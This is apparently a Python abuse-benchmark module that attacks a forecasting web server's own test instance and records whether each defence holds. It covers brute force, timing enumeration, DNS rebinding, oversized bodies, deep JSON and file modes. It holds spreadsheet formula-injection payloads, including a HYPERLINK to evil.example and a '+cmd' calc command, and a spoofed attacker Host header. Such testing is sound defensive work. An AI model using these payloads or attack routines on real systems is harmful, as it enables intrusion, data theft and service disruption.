"""The attacks of the abuse benchmark (:mod:`benchmarks.abuse`), each printing one row: what was
sent, what came back, and **held** or **broken** (kept in :data:`ROWS` for the table).

Sign-in (brute force, enumeration by time, revocation), downloads (spreadsheet formulas),
hosts and origins (DNS rebinding, ``Origin: null``, frame headers), bounded work (wide files,
big bodies, bad JSON, job specs past their bounds, a big file's memory) and the files of
``FORECAST_HOME``. Each takes the server's URL and the store's name; they speak to the server
like a browser and like a script (``tests/serving.py``, through :mod:`harness`).
"""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import os
import select
import socket
import statistics
import subprocess
import time
from pathlib import Path

import numpy as np
import pandas as pd
import requests
from harness import serving

from forecast.safe_csv import FORMULA_TRIGGERS

CLI, Client = serving.CLI, serving.Client

ROOT = Path(__file__).resolve().parents[1]
PASSWORDS = {"alice": "alice-pw-1", "bob": "bob-pw-1", "root": "root-pw-1"}
TIMING_USERS = [f"timing{k:02d}" for k in range(12)]
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0"]
ROWS: list[tuple[str, str, str, bool]] = []


def row(store: str, attack: str, figure: str, held: bool) -> None:
    ROWS.append((store, attack, figure, held))
    print(f"  {'held  ' if held else 'BROKEN'}  {attack}: {figure}", flush=True)


def reset_throttle(db: str) -> None:
    from sqlalchemy import delete

    from forecast.jobs import JobStore
    from forecast.jobs.schema import sign_in_failures

    store = JobStore(db)
    with store._write() as conn:
        conn.execute(delete(sign_in_failures))
    store.close()


def auth_header(name: str, password: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()}


def get(url: str, path: str, name: str, password: str, **kw) -> requests.Response:
    headers = {"Connection": "close", **auth_header(name, password), **kw.pop("headers", {})}
    return requests.get(url + path, headers=headers, timeout=60, **kw)


# ------------------------------------------------------------------ sign-in
def brute_force(url: str, db: str, store: str) -> None:
    reset_throttle(db)
    statuses: list[int] = []
    start = time.monotonic()
    for k in range(200):
        delay = start + k / 20 - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        statuses.append(get(url, "/api/v1/me", "alice", f"guess-{k}").status_code)
    spent = time.monotonic() - start
    right = get(url, "/api/v1/me", "alice", PASSWORDS["alice"])
    wait = int(right.headers.get("Retry-After", "0"))
    checked = statuses.count(401)
    time.sleep(wait + 0.5)
    later = get(url, "/api/v1/me", "alice", PASSWORDS["alice"])
    held = (
        checked <= 5
        and set(statuses) <= {401, 429}
        and right.status_code == 429
        and later.status_code == 200
    )
    row(
        store,
        "200 wrong passwords at 20/s, then the right one",
        f"{checked} reached Argon2 (401) in {spent:.1f} s, {statuses.count(429)} refused (429); "
        f"right password: {right.status_code} (Retry-After {wait} s), after it: "
        f"{later.status_code}",
        held,
    )


def enumeration(url: str, db: str, store: str) -> None:
    reset_throttle(db)
    known, unknown = [], []
    session = requests.Session()  # one kept-alive connection: timing without TCP set-up
    for k, name in enumerate(TIMING_USERS):
        for bucket, who in ((known, name), (unknown, f"nobody{k:02d}")):
            t = time.perf_counter()
            answer = session.get(
                url + "/api/v1/me", headers=auth_header(who, "wrong-password"), timeout=60
            )
            bucket.append(time.perf_counter() - t)
            assert answer.status_code == 401, answer.status_code
    a, b = statistics.median(known), statistics.median(unknown)
    ratio = a / b
    row(
        store,
        "wrong password: known vs unknown name (median of 12 each)",
        f"known {a * 1000:.1f} ms, unknown {b * 1000:.1f} ms (ratio {ratio:.2f})",
        abs(ratio - 1) <= 0.2,
    )


def _pids_seen(url: str, name: str, password: str, tries: int = 40) -> set[str]:
    pids = set()
    for _ in range(tries):
        answer = get(url, "/api/v1/me", name, password)
        if answer.status_code == 200:
            pids.add(answer.headers["X-Forecast-Worker"])
        if len(pids) >= 2:
            break
    return pids


def revocation(url: str, db: str, store: str, users: Path, home: Path) -> None:
    reset_throttle(db)
    before = _pids_seen(url, "alice", PASSWORDS["alice"]) | _pids_seen(url, "bob", PASSWORDS["bob"])
    env = {**os.environ, "FORECAST_HOME": str(home)}
    subprocess.run(
        [*CLI, "users", "add", "alice", "--file", str(users), "--password-stdin"],
        input="alice-pw-2\n",
        text=True,
        check=True,
        capture_output=True,
        env=env,
    )
    subprocess.run(
        [*CLI, "users", "remove", "bob", "--file", str(users)],
        check=True,
        capture_output=True,
        env=env,
    )
    changed = time.monotonic()
    first: dict[tuple[str, str], tuple[float, int]] = {}  # (name, pid) -> first answer after
    accepted = 0
    while time.monotonic() - changed < 10 and len(first) < 2 * len(before):
        for name in ("alice", "bob"):
            answer = get(url, "/api/v1/me", name, PASSWORDS[name])
            pid = answer.headers.get("X-Forecast-Worker", "?")
            accepted += answer.status_code == 200
            first.setdefault((name, pid), (time.monotonic() - changed, answer.status_code))
    reset_throttle(db)
    new = get(url, "/api/v1/me", "alice", "alice-pw-2").status_code
    latest = max((t for t, _ in first.values()), default=float("inf"))
    codes = sorted({code for _, code in first.values()})
    row(
        store,
        "password changed (alice) and user removed (bob) while signed in",
        f"{len(before)} web processes; the first answer of each to each old credential "
        f"(the last {latest:.2f} s after the change): {codes}; {accepted} accepted after the "
        f"change; new password: {new}",
        len(before) == 2 and len(first) == 4 and accepted == 0 and latest < 2 and new == 200,
    )
    PASSWORDS["alice"] = "alice-pw-2"


# ------------------------------------------------------------------ downloads
def _formula_cells(text: str) -> list[str]:
    bad = []
    for cells in csv.reader(io.StringIO(text)):
        for cell in cells:
            if cell.startswith(FORMULA_TRIGGERS):
                with contextlib.suppress(ValueError):
                    float(cell)
                    continue
                bad.append(cell)
    return bad


def formulas(url: str, db: str, store: str, home: Path) -> str | None:
    reset_throttle(db)
    t = pd.date_range("2012-01-01", periods=60, freq="MS")
    y = 100 + 10 * np.sin(2 * np.pi * np.arange(60) / 12)
    frame = pd.DataFrame({"month": t, **{name: y * (k + 1) for k, name in enumerate(EVIL)}})
    raw = frame.to_csv(index=False).encode()
    alice = Client(url, "alice", PASSWORDS["alice"])
    submitted = alice.post(
        "/api/v1/jobs",
        files={"file": ("evil.csv", raw)},
        data={"horizon": "3", "models": "naive,snaive", "backtest_windows": "1"},
    )
    job_id = submitted.json()["id"]
    deadline = time.monotonic() + 180
    status = None
    while time.monotonic() < deadline:
        status = alice.get(f"/api/v1/jobs/{job_id}").json()["status"]
        if status in ("done", "failed", "cancelled"):
            break
        time.sleep(1)
    texts = {}
    for name in ("forecasts.csv", "leaderboard.csv"):
        texts[f"API {name}"] = alice.get(f"/api/v1/jobs/{job_id}/{name}").text
    for name in ("forecasts", "backtest", "leaderboard"):
        answer = alice.callback(
            f"dl-{name}.data",
            {f"dl-{name}-btn.n_clicks": 1, "results-job.value": job_id},
            f"dl-{name}-btn.n_clicks",
        )
        payload = answer.json()["response"][f"dl-{name}"]["data"]
        texts[f"page {name}"] = payload["content"]
    for path in sorted((home / "artifacts" / job_id).glob("*.csv")):
        if path.name != "residuals.csv":  # read back by the pages, never downloaded as is
            texts[f"file {path.name}"] = path.read_text()
    bad = {k: _formula_cells(v) for k, v in texts.items()}
    ids = set(pd.read_csv(io.StringIO(texts["API forecasts.csv"]))["unique_id"])
    row(
        store,
        "formula headers (=HYPERLINK, @SUM, +cmd) in every download",
        f"job {status}; {len(texts)} CSVs checked ({', '.join(texts)}); formula cells: "
        f"{sum(map(len, bad.values()))}; ids read {sorted(ids)[0][:12]}…",
        status == "done"
        and not any(bad.values())
        and ids == {"'" + e for e in EVIL}
        and len(texts) >= 8,
    )
    return job_id


# ------------------------------------------------------------------ hosts and origins
def rebinding(url: str, store: str, job_id: str | None, who: tuple[str, str] | None) -> None:
    port = url.rsplit(":", 1)[1]
    evil = f"rebind.attacker.example:{port}"
    headers = {"Host": evil, "Connection": "close"}
    if who:
        headers.update(auth_header(*who))
    read = requests.get(url + "/api/v1/datasets", headers=headers, timeout=30)
    target = job_id or "0123456789ab"
    cancel = requests.post(
        f"{url}/api/v1/jobs/{target}/cancel",
        headers={**headers, "Origin": f"http://{evil}"},
        timeout=30,
    )
    plain = {k: v for k, v in headers.items() if k != "Host"}
    status = None
    if job_id:
        status = requests.get(f"{url}/api/v1/jobs/{job_id}", headers=plain, timeout=30).json()
        status = status["status"]
    local = requests.get(url + "/api/v1/datasets", headers=plain, timeout=30).status_code
    row(
        store,
        f"DNS rebinding (Host {evil}){'' if who else ', no sign-in'}",
        f"read {read.status_code}, cancel {cancel.status_code}"
        + (f" (job still {status})" if job_id else "")
        + f"; Host 127.0.0.1: {local}",
        read.status_code == 400
        and cancel.status_code == 400
        and local == 200
        and (job_id is None or status == "done"),
    )


def origins_and_frames(url: str, store: str) -> None:
    answers = {}
    for origin in ("null", "file://"):
        answers[origin] = requests.post(
            url + "/upload",
            data=b"month,y\n2020-01,1\n2020-02,2\n2020-03,3\n",
            headers={
                "X-Upload-Filename": "o.csv",
                "Origin": origin,
                "Connection": "close",
                **auth_header("alice", PASSWORDS["alice"]),
            },
            timeout=30,
        ).status_code
    page = get(url, "/", "alice", PASSWORDS["alice"])
    frames = (
        page.headers.get("X-Frame-Options"),
        page.headers.get("Content-Security-Policy"),
    )
    row(
        store,
        "Origin null / file:// posts; frame headers",
        f"null {answers['null']}, file:// {answers['file://']}; X-Frame-Options {frames[0]}, "
        f"CSP {frames[1]}",
        answers == {"null": 403, "file://": 403}
        and frames[0] == "DENY"
        and "frame-ancestors 'none'" in (frames[1] or ""),
    )


# ------------------------------------------------------------------ bounded work
def wide_files(url: str, store: str) -> None:
    alice = Client(url, "alice", PASSWORDS["alice"])
    rng = np.random.default_rng(0)
    wide = pd.DataFrame(rng.normal(size=(24, 20_000)), columns=[f"s{k}" for k in range(20_000)])
    wide.insert(0, "month", pd.date_range("2000-01-01", periods=24, freq="MS"))
    raw = wide.to_csv(index=False, float_format="%.2f").encode()
    t = time.perf_counter()
    answer = alice.upload(raw, "wide.csv")
    spent = time.perf_counter() - t
    message = answer.json().get("error", "")
    row(
        store,
        f"20,000 columns x 24 rows ({len(raw) / 1e6:.1f} MB) on the Data page",
        f"{answer.status_code} in {spent:.2f} s: {message[:70]}…",
        answer.status_code == 400 and "20,001 columns" in message and spent < 5,
    )
    header = "month," + ",".join(f"c{k}" for k in range(1_000_000))
    raw = (header + "\n2020-01," + ",".join(["1"] * 1_000_000) + "\n").encode()
    t = time.perf_counter()
    answer = alice.upload(raw, "million.csv")
    spent = time.perf_counter() - t
    message = answer.json().get("error", "")
    row(
        store,
        f"1,000,000 columns ({len(raw) / 1e6:.1f} MB)",
        f"{answer.status_code} in {spent:.2f} s: {message[:60]}…",
        answer.status_code == 400 and "1,000,001 columns" in message and spent < 5,
    )


def _sent_before_answer(url: str, path: str, headers: dict[str, str], total: int) -> tuple:
    """Send a request declaring ``total`` body bytes; stop at the answer or at 5 MB sent."""
    host, port = url.removeprefix("http://").split(":")
    lines = [f"POST {path} HTTP/1.1", f"Host: {host}:{port}", f"Content-Length: {total}"]
    lines += [f"{k}: {v}" for k, v in headers.items()] + ["Connection: close", "", ""]
    chunk = b"x" * (256 * 1024)
    sent = 0
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall("\r\n".join(lines).encode())
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            readable, _, _ = select.select([sock], [], [], 0.05)
            if readable:
                head = sock.recv(65536).decode("latin-1")
                status = int(head.split(" ", 2)[1]) if head.startswith("HTTP/") else None
                return status, sent
            if sent < 5 * 2**20:
                try:
                    sock.sendall(chunk)
                    sent += len(chunk)
                except OSError:
                    continue
        return None, sent


def big_bodies(url: str, store: str) -> None:
    creds = auth_header("alice", PASSWORDS["alice"])
    total = 200 * 2**20
    cases = {
        "upload": ("/upload", {"X-Upload-Filename": "big.csv"}),
        "API multipart": ("/api/v1/jobs", {"Content-Type": "multipart/form-data; boundary=b"}),
        "Dash callback": ("/_dash-update-component", {"Content-Type": "application/json"}),
    }
    results = {
        name: _sent_before_answer(url, path, {**creds, **extra}, total)
        for name, (path, extra) in cases.items()
    }
    figure = "; ".join(f"{k}: {s} after {n / 2**20:.2f} MB" for k, (s, n) in results.items())
    row(
        store,
        "200 MB bodies (upload, API, Dash callback)",
        figure,
        all(s == 413 and n <= 5 * 2**20 for s, n in results.values()),
    )


def bad_json(url: str, store: str) -> None:
    creds = {**auth_header("alice", PASSWORDS["alice"]), "Connection": "close"}
    deep = "[" * 100_000 + "]" * 100_000
    deps = requests.get(url + "/_dash-dependencies", headers=creds, timeout=30).json()
    from dashboard.callback_request import callback_body

    good = callback_body(deps, "jobs-table.children", {"jobs-tick.n_intervals": 0})
    bodies = {
        "deep callback": ("/_dash-update-component", deep),
        "deep API": ("/api/v1/jobs", deep),
        "not JSON": ("/_dash-update-component", "{oops"),
        "a list": ("/_dash-update-component", "[1, 2]"),
        "unknown output": ("/_dash-update-component", json.dumps({**good, "output": "x.y"})),
        "inputs not a list": ("/_dash-update-component", json.dumps({**good, "inputs": 5})),
        "inputs of numbers": ("/_dash-update-component", json.dumps({**good, "inputs": [1]})),
        "no inputs": ("/_dash-update-component", json.dumps({"output": good["output"]})),
    }
    statuses = {
        name: requests.post(
            url + path,
            data=body,
            headers={**creds, "Content-Type": "application/json"},
            timeout=60,
        ).status_code
        for name, (path, body) in bodies.items()
    }
    row(
        store,
        "JSON nested 100,000 deep; 6 malformed Dash bodies",
        ", ".join(f"{k} {v}" for k, v in statuses.items()),
        set(statuses.values()) == {400},
    )


def spec_bounds(url: str, store: str) -> None:
    alice = Client(url, "alice", PASSWORDS["alice"])
    raw = (ROOT / "data" / "air_passengers.csv").read_bytes()
    digest = alice.post("/api/v1/datasets", files={"file": ("air.csv", raw)}).json()["hash"]
    cases = {
        "horizon 1e9": {"horizon": 10**9},
        "epochs 1e9": {"models": "gru", "epochs": 10**9},
        "hidden_size 100,000": {"models": "gru", "model_params": {"gru": {"hidden_size": 100_000}}},
    }
    answers = {
        name: alice.post("/api/v1/jobs", json={"dataset": digest, **options})
        for name, options in cases.items()
    }
    row(
        store,
        "job specs: horizon 1e9, epochs 1e9, hidden_size 100,000",
        "; ".join(
            f"{k} {a.status_code} ({a.json()['error'].split('— ')[-1][:45]})"
            for k, a in answers.items()
        ),
        all(a.status_code == 400 and "must be from" in a.json()["error"] for a in answers.values()),
    )


def _rss_mb(master: int) -> float:
    """Largest resident memory among the web processes (gunicorn's children), in MB."""
    import psutil

    sizes = [c.memory_info().rss for c in psutil.Process(master).children()]
    return max(sizes, default=0) / 1e6


def big_file(url: str, store: str, master: int) -> None:
    """A 50 MB CSV of 2,050 series on the Data page: every answer within 3 s, memory bounded."""
    rng = np.random.default_rng(5)
    n = 800
    ds = pd.date_range("2000-01-01", periods=n, freq="D").strftime("%Y-%m-%d")
    parts = [
        pd.DataFrame(
            {"date": ds, "store": f"store_{k:04d}", "sales": 100 + rng.normal(0, 10, n).cumsum()}
        )
        for k in range(2050)
    ]
    raw = pd.concat(parts).to_csv(index=False, float_format="%.4f").encode()
    alice = Client(url, "alice", PASSWORDS["alice"])
    digest = alice.upload(raw, "big.csv").json()["hash"]
    data = {"hash": digest, "filename": "big.csv", "overrides": {}}
    times, peak, start, ready = [], 0.0, time.monotonic(), None
    while time.monotonic() - start < 600:
        t = time.perf_counter()
        answer = alice.callback("data-summary.children", {"dataset.data": data}, "dataset.data")
        times.append(time.perf_counter() - t)
        peak = max(peak, _rss_mb(master))
        if "Reading big.csv" not in answer.text:
            ready = time.monotonic() - start
            break
        time.sleep(2)  # the page's poll interval (dashboard.pages.data.POLL_MS)
    t = time.perf_counter()
    again = alice.callback("data-summary.children", {"dataset.data": data}, "dataset.data")
    revisit = time.perf_counter() - t
    peak = max(peak, _rss_mb(master))
    row(
        store,
        f"{len(raw) / 1e6:.0f} MB CSV of 2,050 series on the Data page",
        f"{len(times)} answers, slowest {max(times):.2f} s; summary after "
        f"{ready if ready is None else round(ready)} s (read once, in a child); a later visit "
        f"{revisit:.2f} s; web processes at most {peak:.0f} MB",
        ready is not None
        and max(times) < 3
        and revisit < 3
        and peak < 500
        and "2050 " in again.text,
    )


# ------------------------------------------------------------------ files
def files(url: str, store: str, home: Path) -> None:
    root = Client(url, "root", PASSWORDS["root"])
    before = len(root.get("/api/v1/datasets").json()["datasets"])
    noise = np.random.default_rng(3).bytes(1_000_000)
    refused = root.post("/api/v1/datasets", data=noise, headers={"X-Upload-Filename": "noise.csv"})
    after = len(root.get("/api/v1/datasets").json()["datasets"])
    raw = (ROOT / "data" / "air_passengers.csv").read_bytes()
    curl_like = root.post(
        "/api/v1/datasets",
        data=raw,
        headers={
            "X-Upload-Filename": "air.csv",
            "Content-Type": "application/x-www-form-urlencoded",
        },
    )
    row(
        store,
        "random bytes upload; curl --data-binary (form content type)",
        f"random: {refused.status_code} ({refused.json().get('error', '')[:40]}…), datasets "
        f"{before} -> {after}; curl-like: {curl_like.status_code}",
        refused.status_code == 400 and after == before and curl_like.status_code == 201,
    )
    stale = list((home / "datasets").glob(".*.tmp"))
    modes = {
        p.relative_to(home).as_posix(): oct(p.stat().st_mode & 0o777)
        for p in [home, *home.rglob("*")]
        if not p.name.endswith(".log")  # the benchmark's own worker log
    }
    wrong = {k: v for k, v in modes.items() if v not in ("0o600", "0o700")}
    row(
        store,
        "8 stale partial uploads before start; FORECAST_HOME modes",
        f"{len(stale)} partial files left; {len(modes)} paths checked, "
        f"{len(wrong)} not 0600/0700 {list(wrong.items())[:3]}",
        not stale and not wrong,
    )
